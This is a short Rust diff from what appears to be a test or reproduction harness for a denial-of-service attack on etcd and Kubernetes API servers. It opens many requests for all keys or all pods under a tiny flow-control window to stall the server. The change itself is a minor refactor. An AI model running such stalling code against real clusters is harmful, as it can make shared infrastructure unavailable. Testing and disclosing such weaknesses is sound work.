@@ -18,18 +18,21 @@ const UNREAD: [&str; 3] = [
 /// A Range of all keys: `key` is field 1, `range_end` is field 2.
 const EVERYTHING: &[u8] = b"\x0a\x01\0\x12\x01\0";
 
-fn list(attacker: &mut Attacker, port: Port) {
+/// Requests everything; returns the stream.
+pub(crate) fn list(attacker: &mut Attacker, port: Port) -> u32 {
     match port {
         Port::Etcd => attacker.call("/etcdserverpb.KV/Range", Some(EVERYTHING)),
         Port::Kube => attacker.get("/api/v1/pods"),
-    };
+    }
 }
 
 /// Opens lists on a connection, each with a window of `window` bytes.
 fn stall(victim: &Victim, port: Port, lists: u32, window: u32) -> Attacker {
     let mut attacker = Attacker::connect(victim.authority(port), window);
     attacker.open_connection_window();
-    attacker.request_many(lists, |attacker| list(attacker, port));
+    attacker.request_many(lists, |attacker| {
+        list(attacker, port);
+    });
     attacker
 }
 
